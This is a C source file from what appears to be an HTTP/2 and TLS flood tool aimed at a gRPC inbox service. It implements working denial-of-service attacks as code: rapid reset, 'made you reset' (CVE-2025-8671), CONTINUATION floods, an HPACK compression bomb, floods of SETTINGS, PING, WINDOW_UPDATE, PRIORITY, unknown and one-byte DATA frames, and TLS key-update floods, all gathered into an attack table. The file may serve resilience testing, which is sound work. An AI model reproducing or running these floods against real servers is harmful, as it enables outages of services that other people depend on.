/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Floods: frames that cost the server something and the attacker next to
 * nothing. Each ends its own connection.
 */
#include "attack.h"

/* What a piece of a flood needs at the most; filling stops below it. */
enum { FLOOD_ROOM = 4096, FLOOD_KEYS = 64 };

/* The block of a call that is real work: a page of the unit's inbox. */
static size_t flood_block(uint8_t block[LINE_BLOCK_BYTES], const struct target *target)
{
	return line_make_block(block, "/stafett.v1.InboxService/List", target->unit);
}

static void flood_open(
	struct line *line, const struct target *target, uint32_t stream, uint8_t flags)
{
	uint8_t block[LINE_BLOCK_BYTES];
	size_t n = flood_block(block, target);

	line_put_frame(line, LINE_HEADERS, flags, stream, block, n);
}

static void flood_reset(struct line *line, uint32_t stream)
{
	static const uint8_t cancel[] = {0, 0, 0, 8};

	line_put_frame(line, LINE_RST_STREAM, 0, stream, cancel, sizeof(cancel));
}

/* --- streams ---------------------------------------------------------------------- */

/* Whole requests, taken back at once: the work has begun. */
static void fill_rapid_reset(struct line *line, const struct target *target)
{
	static const uint8_t empty[5];

	while (line_room(line) > FLOOD_ROOM) {
		uint32_t stream = line_next_stream(line);

		flood_open(line, target, stream, LINE_END_HEADERS);
		line_put_frame(line, LINE_DATA, LINE_END_STREAM, stream, empty, sizeof(empty));
		flood_reset(line, stream);
	}
}

/* Window overflow: the server must reset the stream itself (CVE-2025-8671). */
static void fill_made_you_reset(struct line *line, const struct target *target)
{
	static const uint8_t largest[] = {0x7f, 0xff, 0xff, 0xff};

	while (line_room(line) > FLOOD_ROOM) {
		uint32_t stream = line_next_stream(line);

		flood_open(line, target, stream, LINE_END_HEADERS);
		line_put_frame(line, LINE_WINDOW_UPDATE, 0, stream, largest, sizeof(largest));
	}
}

/* A field name that HTTP/2 forbids, with the same effect. */
static void fill_bad_headers(struct line *line, const struct target *target)
{
	uint8_t block[LINE_BLOCK_BYTES + 32];
	size_t n = flood_block(block, target);

	n += line_make_field(block + n, "X-Upper", "1");
	while (line_room(line) > FLOOD_ROOM)
		line_put_frame(
			line, LINE_HEADERS, LINE_END_HEADERS, line_next_stream(line), block, n);
}

static void fill_too_many_streams(struct line *line, const struct target *target)
{
	while (line_room(line) > FLOOD_ROOM)
		flood_open(line, target, line_next_stream(line), LINE_END_HEADERS);
}

/* --- headers ------------------------------------------------------------------------ */

static void begin_continuation(struct line *line, const struct target *target)
{
	line_greet(line, INT32_MAX);
	flood_open(line, target, line_next_stream(line), 0);
}

static void fill_continuation(struct line *line, const struct target *target)
{
	while (line_room(line) > FLOOD_ROOM)
		line_put_frame(line, LINE_CONTINUATION, 0, 1, NULL, 0);
}

/* One field of 3,000 bytes goes into the table, and then is named again and
 * again: a byte each on the wire. */
static void begin_hpack_bomb(struct line *line, const struct target *target)
{
	enum { VALUE = 3000, TIMES = 12000 };
	static const uint8_t field[] = {0x40, 1, 'x', 0x7f, 0xb9, 0x16}; /* length 127 + 2873 */
	static uint8_t block[LINE_BLOCK_BYTES + sizeof(field) + VALUE + TIMES];
	size_t n = flood_block(block, target);

	memcpy(block + n, field, sizeof(field));
	memset(block + n + sizeof(field), 'b', VALUE);
	memset(block + n + sizeof(field) + VALUE, 0x80 | 62, TIMES);
	n += sizeof(field) + VALUE + TIMES;
	line_greet(line, INT32_MAX);
	line_put_frame(line, LINE_HEADERS, LINE_END_HEADERS, line_next_stream(line), block, n);
}

/* --- frames that move nothing --------------------------------------------------------- */

static void flood_with(
	struct line *line, uint8_t type, uint32_t stream, const void *payload, size_t len)
{
	while (line_room(line) > FLOOD_ROOM)
		line_put_frame(line, type, 0, stream, payload, len);
}

static void fill_settings(struct line *line, const struct target *target)
{
	flood_with(line, LINE_SETTINGS, 0, NULL, 0);
}

/* More entries than any peer has reason for. */
static void fill_settings_entries(struct line *line, const struct target *target)
{
	static const uint8_t entries[6 * 100];

	flood_with(line, LINE_SETTINGS, 0, entries, sizeof(entries));
}

static void fill_pings(struct line *line, const struct target *target)
{
	static const uint8_t payload[8];

	flood_with(line, LINE_PING, 0, payload, sizeof(payload));
}

static void fill_window_updates(struct line *line, const struct target *target)
{
	static const uint8_t one[] = {0, 0, 0, 1};

	flood_with(line, LINE_WINDOW_UPDATE, 0, one, sizeof(one));
}

static void begin_window(struct line *line, const struct target *target)
{
	line_greet(line, 65535);
}

static void fill_priorities(struct line *line, const struct target *target)
{
	static const uint8_t payload[5];

	flood_with(line, LINE_PRIORITY, 1, payload, sizeof(payload));
}

static void fill_unknown(struct line *line, const struct target *target)
{
	flood_with(line, 0xbb, 0, NULL, 0);
}

static void begin_data(struct line *line, const struct target *target)
{
	line_greet(line, INT32_MAX);
	flood_open(line, target, line_next_stream(line), LINE_END_HEADERS);
}

static void fill_empty_data(struct line *line, const struct target *target)
{
	flood_with(line, LINE_DATA, 1, NULL, 0);
}

/* The bytes of one large message, one a frame. */
static void fill_one_byte_data(struct line *line, const struct target *target)
{
	flood_with(line, LINE_DATA, 1, "", 1);
}

/* --- TLS -------------------------------------------------------------------------------- */

static void flood_keys(struct line *line, int kind)
{
	for (int i = 0; i < FLOOD_KEYS && line->out_len == 0; i++, line->frames++)
		if (SSL_key_update(line->ssl, kind) != 1 || SSL_do_handshake(line->ssl) != 1)
			return;
}

static void fill_key_updates(struct line *line, const struct target *target)
{
	flood_keys(line, SSL_KEY_UPDATE_NOT_REQUESTED);
}

static void fill_keys_both(struct line *line, const struct target *target)
{
	flood_keys(line, SSL_KEY_UPDATE_REQUESTED);
}

static void begin_garbage(struct line *line, const struct target *target)
{
	static const char request[] = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";

	line_put(line, request, sizeof(request) - 1);
}

const struct attack attack_floods[] = {
	{.name = "rapid reset", .fill = fill_rapid_reset},
	{.name = "made you reset", .begin = begin_window, .fill = fill_made_you_reset},
	{.name = "forbidden headers", .fill = fill_bad_headers},
	{.name = "too many streams", .fill = fill_too_many_streams},
	{.name = "continuations", .begin = begin_continuation, .fill = fill_continuation},
	{.name = "hpack bomb", .begin = begin_hpack_bomb},
	{.name = "settings", .fill = fill_settings},
	{.name = "settings of 100 entries", .fill = fill_settings_entries},
	{.name = "pings", .fill = fill_pings},
	{.name = "pings whose answers nobody reads", .fill = fill_pings, .deaf = true},
	{.name = "window updates", .begin = begin_window, .fill = fill_window_updates},
	{.name = "priorities", .fill = fill_priorities},
	{.name = "unknown frames", .fill = fill_unknown},
	{.name = "empty data", .begin = begin_data, .fill = fill_empty_data},
	{.name = "data byte by byte", .begin = begin_data, .fill = fill_one_byte_data},
	{.name = "key updates", .fill = fill_key_updates},
	{.name = "key updates that ask for ours", .fill = fill_keys_both},
	{.name = "no http2", .begin = begin_garbage},
	{.name = NULL},
};
